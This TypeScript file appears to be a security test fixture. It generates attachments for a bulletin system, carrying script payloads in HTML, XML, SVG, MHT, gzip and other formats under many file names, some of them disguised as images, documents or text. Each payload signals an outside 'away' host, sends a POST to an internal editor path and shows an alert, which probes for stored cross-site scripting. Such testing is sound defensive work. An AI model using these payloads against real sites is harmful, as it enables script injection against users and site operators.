/** Files to be attached to bulletins that hold a page or a program, under every name by which one might get through. */
import { gzipSync } from 'node:zlib'

/** The files by name; each asks `away` for a path with its own name, and says "ran" there if it ran. */
export function hostileAttachments(away: string): Map<string, string | Buffer> {
  const code = (name: string) =>
    `document.documentElement.setAttribute('data-ran','1');new Image().src='${away}/${name}/ran';fetch('/.build-portal/editor',{method:'POST',body:'{}'});alert('${name}')`
  const html = (name: string) =>
    `<!doctype html><html><body><script>${code(name)}</script><img src="${away}/${name}/i.png" onerror="${code(name)}"></body></html>`
  const xml = (name: string) =>
    `<?xml version="1.0"?><x><script xmlns="http://www.w3.org/1999/xhtml">${code(name)}</script><img xmlns="http://www.w3.org/1999/xhtml" src="${away}/${name}/i.png"/></x>`
  const xhtml = (name: string) =>
    `<html xmlns="http://www.w3.org/1999/xhtml"><head><title>x</title><script>${code(name)}</script></head><body/></html>`
  const styled = (name: string) =>
    `<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="${away}/${name}/x.xsl"?>${xml(name).slice(21)}`
  const mht = (name: string) =>
    `MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary="b"\r\n\r\n--b\r\nContent-Type: text/html\r\n\r\n${html(name)}\r\n--b--\r\n`
  const svg = (name: string) =>
    `<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"><script>${code(name)}</script></svg>`
  const kinds: [make: (name: string) => string | Buffer, names: string[]][] = [
    [
      html,
      [
        'a.html',
        'a.HTM',
        'a.shtml',
        'a.php',
        'a.phtml',
        'a.aspx',
        'a.hta',
        'a.html.vi',
        'a.html.bak',
        'a.php.pdf',
        'a.ｈｔｍｌ',
      ],
    ],
    [xhtml, ['a.xhtml', 'a.xht', 'a.html.']],
    [xml, ['a.xml', 'a.rss', 'a.atom', 'a.rdf', 'a.mml', 'a.xsd', 'a.xspf', 'a.kml', 'a.gpx', 'a.musicxml']],
    [styled, ['b.xml', 'a.xsl', 'a.xslt']],
    [mht, ['a.mht', 'a.mhtml', 'a.eml']],
    [svg, ['b.png', 'b.webp', 'b.svg.bak']],
    [(name) => gzipSync(html(name)), ['a.html.gz']],
    [(name) => gzipSync(svg(name)), ['a.svgz', 'a.svg.gz']],
    [code, ['a.js', 'a.mjs']],
    [(name) => `@import "${away}/${name}/i.css";`, ['a.css']],
    [(name) => `[InternetShortcut]\r\nURL=${away}/${name}/\r\n`, ['a.url']],
    // Names that promise something else, or nothing.
    [
      html,
      [
        'a.txt',
        'a',
        'a.khac',
        'a.jpg',
        'a.pdf',
        'a.doc',
        'a.csv',
        'a.json',
        'a.vtt',
        'a.srt',
        'a.mp4',
        'a.zip',
        'a.docx',
        'a.7z',
        'a.md5',
      ],
    ],
  ]
  return new Map(kinds.flatMap(([make, names]) => names.map((name) => [name, make(encodeURI(name))] as const)))
}
